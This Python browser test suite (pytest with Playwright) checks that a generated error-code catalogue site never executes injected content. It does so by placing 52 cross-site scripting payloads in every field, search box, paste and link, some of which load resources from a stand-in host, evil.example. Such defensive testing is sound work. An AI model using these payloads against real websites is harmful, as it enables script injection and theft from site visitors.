"""Texts that would like to run: in every field of a catalogue, typed, pasted and linked, they stay texts."""

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page
from werkzeug.serving import make_server

from site_builder.assemble.build import SERVED, build
from site_builder.catalog.entry import Cause, ConfusedWith, Entry, Source, Wording
from site_builder.catalog.model import Catalog, Category, Prefix
from site_builder.catalog.multilingual import Words
from site_builder.core.progress import Reporter
from tests.browser.conftest import Silent, Watch, serving
from tests.factories import a_catalog, an_entry, text
from web import create_app

pytestmark = pytest.mark.browser

RUN = "window.ran=1"
AWAY = "https://evil.example/x"
IMAGE = f"![x]({AWAY}.png)"
"""The only one that would load something, were it not refused by a rule; the policy keeps it from that as well."""
PAYLOADS = (
    f"<script data-evil>{RUN}</script>",
    f"</script><script data-evil>{RUN}</script>",
    f"</title></textarea></style><script data-evil>{RUN}</script>",
    f"--><script data-evil>{RUN}</script><!--",
    f"]]><script data-evil>{RUN}</script><![CDATA[",
    f"<ScRiPt data-evil>{RUN}</sCrIpT>",
    f"<script data-evil src={AWAY}.js></script>",
    f"<script data-evil type=module>import '{AWAY}.js'</script>",
    f"<img data-evil src=x onerror={RUN}>",
    f"<img data-evil src={AWAY}.png>",
    f'"><img data-evil src=x onerror="{RUN}">',
    f"'><img data-evil src=x onerror='{RUN}'>",
    f"`><img data-evil src=x onerror=`{RUN}`>",
    f'" autofocus onfocus="{RUN}" data-evil="',
    f"' onmouseover='{RUN}' data-evil='",
    f"<svg data-evil onload={RUN}>",
    f"<svg data-evil><script>{RUN}</script></svg>",
    f"<svg data-evil><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg data-evil><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></svg>",
    f"<math data-evil><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<body data-evil onload={RUN}>",
    f"<iframe data-evil src=javascript:parent.{RUN}></iframe>",
    f'<iframe data-evil srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data-evil data={AWAY}></object>",
    f"<embed data-evil src={AWAY}>",
    f"<link data-evil rel=stylesheet href={AWAY}.css>",
    f"<style data-evil>@import url({AWAY}.css); * {{ display: none }}</style>",
    f"<p data-evil style='background: url({AWAY}.png)'>",
    f"<base data-evil href={AWAY}/>",
    f"<meta data-evil http-equiv=refresh content='0;url={AWAY}'>",
    f"<form data-evil action={AWAY}><button autofocus>x</button></form>",
    f"<details data-evil open ontoggle={RUN}>",
    f"<video data-evil><source onerror={RUN}></video>",
    f"<input data-evil autofocus onfocus={RUN}>",
    f"<marquee data-evil onstart={RUN}>",
    f"<template data-evil><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img data-evil src=x onerror={RUN}>'>",
    f"<a data-evil href=javascript:{RUN}>x</a>",
    f"[x](javascript:{RUN})",
    f"[x](java&#10;script:{RUN})",
    f"[x](&#106;avascript&colon;{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"<javascript:{RUN}>",
    IMAGE,
    f'[x](https://a.example/"onmouseover="{RUN})',
    f"`<img data-evil src=x onerror={RUN}>`",
    f"&lt;img data-evil src=x onerror={RUN}&gt;",
    f"&#x00003c;img data-evil src=x onerror={RUN}>",
    f"\\u003cimg data-evil src=x onerror={RUN}\\u003e",
    f"%3Cimg data-evil src=x onerror={RUN}%3E",
    "{{constructor.constructor('" + RUN + "')()}} ${" + RUN + "} {% raw %} @@title@@",
    f"<!--@@count:x@@--><b data-evil>\u202e{RUN}\u2066</b><!--",
)
PASTED = """text => {
  document.activeElement.blur();
  const data = new DataTransfer();
  data.setData("text", text);
  document.querySelector("textarea[name=text]").value = "";
  document.body.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
}"""
EVIL = "document.querySelectorAll('[data-evil], [onerror], [onload], [onfocus], [onmouseover]').length"
JAVASCRIPT = (
    "[...document.querySelectorAll('[href], [src]')].filter(one => /^(javascript|data:text)/i.test(one.href)).length"
)


def catalog() -> Catalog:
    """An entry for each payload, which has it in every field; and the rest of the catalogue in its titles."""
    first = PAYLOADS[0]
    made = a_catalog(*(_entry(number, payload) for number, payload in enumerate(PAYLOADS) if payload != IMAGE))
    said = text(f"站 {first}", f"Site {PAYLOADS[10]}")
    (domain,) = made.domains
    domain = domain.model_copy(
        update={
            "title": said,
            "summary": text(first, PAYLOADS[8]),
            "prefixes": {"<b>": Prefix(fault="caller", meaning=text(first, PAYLOADS[13]))},
            "categories": {"limit": Category(title=text(first, PAYLOADS[14]))},
            "example": json.dumps({"Code": "{code}", "Message": "{message}", "x": first}),
        }
    )
    settings = made.settings.model_copy(update={"title": said})
    return replace(made, settings=settings, domains=(domain,))


def _entry(number: int, payload: str) -> Entry:
    seen = payload.replace("\u202e", "").replace("\u2066", "")  # no code has what nobody sees
    both, source = text(payload, payload), Source(title=payload, url="https://docs.example/?a=1&b='2'")
    cause = Cause(title=both, cause=both, solution=both, message=both, wire=(payload,))
    return an_entry(
        f"<b>{number} {seen}"[:200].strip(),
        name=f"CODE_{number}",
        slug=f"code-{number}",
        path=Path("sms", f"code-{number}.yaml"),
        category="limit",
        fault="caller",
        retry={"policy": "never"},
        codes={"sqlstate": seen},
        message=both,
        wire=(payload,),
        wordings=(Wording(text=payload, date="2020", source=payload),),
        causes=(cause, cause.model_copy(update={"message": None})),
        say=both,
        keywords=Words({"zh": (payload,), "en": (payload,)}),
        see_also=(payload,),
        confused_with=(ConfusedWith(code=payload, difference=both),),
        aliases=(f"alias {number} {seen}"[:200].strip(),),
        note=both,
        source=source,
        sources=(source,),
        since=payload,
    )


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of the site of all payloads, as it is served to readers."""
    out = tmp_path_factory.mktemp("payloads") / "build"
    build(catalog(), out, SERVED, {}, Reporter(quiet=True))
    app = create_app({"SITE": out / "site", "LOOKUP": out / "lookup.db"})
    with serving(make_server("127.0.0.1", 0, app, threaded=True, request_handler=Silent)) as address:
        yield address


@pytest.fixture
def page(browser: Browser, address: str) -> Iterator[Page]:
    """A page that fails its test on a word of the console, a violated policy, or a request to another host."""
    context = browser.new_context(base_url=address)
    page = context.new_page()
    watch = Watch(page, address)
    page.on("dialog", lambda dialog: watch.complaints.append(f"dialog: {dialog.message}"))
    yield page
    context.close()
    assert [one for one in dict.fromkeys(watch.complaints) if "404" not in one] == []


def ran(page: Page) -> list[str]:
    """What of a payload is more than text on the page."""
    found = page.evaluate(f"[window.ran ?? 0, {EVIL}, {JAVASCRIPT}]")
    return [name for name, count in zip(("a script", "an element", "a link"), found, strict=True) if count]


def test_payload_is_seen_where_it_is_not_kept_from_running(page: Page) -> None:
    page.goto("/en/")
    page.evaluate("document.body.insertAdjacentHTML('beforeend', '<p data-evil>')")
    page.evaluate(f"document.body.insertAdjacentHTML('beforeend', '<a href=\"javascript:{RUN}\">')")
    page.evaluate(RUN)

    assert len(PAYLOADS) == len(set(PAYLOADS)) == 52
    assert ran(page) == ["a script", "an element", "a link"]


def test_no_field_of_a_catalogue_runs_on_any_page(page: Page) -> None:
    paths = [
        f"/{'zh' if number % 2 else 'en'}/sms/code-{number}.html"
        for number, payload in enumerate(PAYLOADS)
        if payload != IMAGE
    ]
    paths += [
        f"/{language}/{path}" for language in ("zh", "en") for path in ("", "sms/", "diagnose/", "api/", "x.html")
    ]
    running = {}
    for path in paths:
        page.goto(path)
        if what := ran(page):
            running[path] = what

    assert running == {}


def test_nothing_that_is_typed_pasted_or_linked_runs(page: Page) -> None:
    page.goto("/en/sms/")
    table = page.locator(".ed-filter input")
    page.wait_for_load_state("networkidle")
    running: dict[tuple[str, str], list[str]] = {}
    for payload in PAYLOADS:
        table.fill(payload)
        if what := ran(page):
            running["filter", payload] = what
    answered = 0
    for path, payloads in (("/en/", PAYLOADS[::2]), ("/zh/diagnose/", PAYLOADS[1::2])):
        page.goto(path)
        for payload in payloads:
            page.evaluate(PASTED, payload)
            page.wait_for_timeout(170)  # longer than the box waits for more
            answered += page.locator(".ed-answers [data-code]").count() > 0
            if what := ran(page):
                running[path, payload] = what
    assert answered > 10
    page.goto("/en/")
    search = page.locator(".md-search__input")
    for payload in PAYLOADS:
        search.fill(payload)
        page.wait_for_timeout(30)
        if what := ran(page):
            running["search", payload] = what
    for payload in PAYLOADS[::4]:
        for linked in (
            f"/en/diagnose/#text={quote(payload)}",
            f"/en/sms/?q={quote(payload)}",
            f"/zh/{quote(payload)}.html",
        ):
            page.goto(linked)
            if what := ran(page):
                running["linked", linked] = what

    assert running == {}
